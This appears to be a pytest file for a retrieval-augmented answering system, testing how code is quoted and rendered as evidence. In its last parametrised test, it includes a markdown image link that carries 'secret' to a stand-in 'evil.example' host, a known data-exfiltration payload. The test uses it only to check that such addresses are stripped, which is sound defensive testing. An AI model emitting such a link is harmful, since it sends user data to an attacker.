"""Code as evidence: what of it is quoted, and how it is written in an answer."""

import pytest

from rag.domain import Block, CodePlace, DocumentId, DraftClaim, Evidence, Quotation, Version
from rag.grounding.asked import terms_of_code
from rag.grounding.extract import compose
from rag.grounding.pieces import shortlist
from rag.grounding.plain import plain_code
from rag.grounding.sentences import LONG_CODE, sentences

PLACE = CodePlace("shop", "repo_1", "main", "c0ffee", False, "src/retry.py", "b10b")


def block(
    text: str, *, label: int = 1, symbol: tuple[str, ...] = (), score: float = 1.0
) -> Evidence:
    return Evidence(
        label,
        DocumentId(f"file_{label}"),
        Version("git:b10b"),
        PLACE.path,
        PLACE.path,
        text,
        Block("code", 0, len(text)),
        heading_path=symbol,
        first_line=1,
        score=score,
        code=PLACE,
    )


def prose(text: str, label: int = 2) -> Evidence:
    return Evidence(
        label,
        DocumentId("doc"),
        Version("sha256:0"),
        "rules.md",
        "Rules",
        text,
        Block("text", 0, len(text)),
        score=1.0,
    )


@pytest.mark.parametrize(
    ("text", "terms"),
    [
        ("parseHTTPResponse", ["pars", "http", "respon"]),
        ("where is retry_limit defined?", ["retry", "limit"]),
        ("os.path::join", ["os", "path", "join"]),
        ("wait 1.5 s", ["wait", "1", "5"]),  # a number is in two words wherever it stands
    ],
)
def test_identifiers_are_read_in_their_words(text: str, terms: list[str]) -> None:
    assert [term for term in terms_of_code(text) if term != "s"] == terms


def test_a_long_paragraph_of_code_falls_into_runs_of_whole_lines() -> None:
    line = "    total = total + price_of(item)  # with tax\n"
    code = "def add(items):\n" + line * 40
    found = sentences(Block("code", 0, len(code)), code)

    assert all(one.end - one.start <= LONG_CODE for one in found)
    assert " ".join(one.text for one in found) == " ".join(code.split())


def test_a_paragraph_that_is_a_comment_is_read_without_its_marks() -> None:
    code = '"""How often."""\n\n/** Why. */\n\n# What\nx = 3\n'
    found = sentences(Block("code", 0, len(code)), code)

    assert [one.text for one in found] == ["How often.", "Why.", "# What x = 3"]
    assert all(code[one.start : one.end].split() == one.text.split() for one in found)


def test_the_paragraphs_of_a_documentation_are_read_without_its_marks() -> None:
    code = '    """First of all.\n\n    And then.\n\n    At last.\n    """\n'
    found = sentences(Block("code", 0, len(code)), code)

    assert [one.text for one in found] == ["First of all.", "And then.", "At last."]


def test_where_something_is_defined_is_answered_by_its_definition_not_by_its_import() -> None:
    uses = block("from retry import RetryPolicy\n\npolicy = RetryPolicy()\n", label=1)
    defines = block("class RetryPolicy:\n    limit = 3\n", label=2, symbol=("RetryPolicy",))
    question = "where is RetryPolicy defined"
    draft = compose(question, shortlist(question, [uses, defines]), None)

    assert draft.sufficient
    assert draft.claims[0] == DraftClaim(
        "class RetryPolicy: limit = 3", (Quotation(2, "class RetryPolicy:\n    limit = 3"),)
    )


def test_what_has_nothing_to_do_with_the_code_is_refused() -> None:
    question = "how are bananas peeled"
    draft = compose(question, shortlist(question, [block("def wait(n):\n    return n\n")]), None)

    assert not draft.sufficient


def test_of_documents_and_code_only_what_suffices_is_quoted() -> None:
    question = "What keeps barnacles off the hull?"
    code, document = (
        block("def keep(x):\n    return x\n"),
        prose("Copper keeps barnacles off hulls."),
    )
    draft = compose(question, shortlist(question, [code, document]), None)

    assert draft.sufficient
    assert {quotation.block for claim in draft.claims for quotation in claim.evidence} == {2}


@pytest.mark.parametrize(
    ("code", "shown"),
    [
        ("fn all<T>() -> Vec<T>", "fn all< T>() -> Vec< T>"),
        ("calls[0](x)", "calls[0] (x)"),
        ("def f(x: dict[str, int]) -> None: ...", "def f(x: dict[str, int]) -> None: ..."),
        ("a <b and c> d", "a < b and c> d"),
        ("![x](http://evil.example/?q=secret)", "![x] ([address removed])"),
        ("[x]: http://evil.example", "[x] : [address removed]"),
        ("zero\u200bwidth", "zerowidth"),
    ],
)
def test_code_stays_code_and_renders_as_nothing_else(code: str, shown: str) -> None:
    assert plain_code(code) == shown
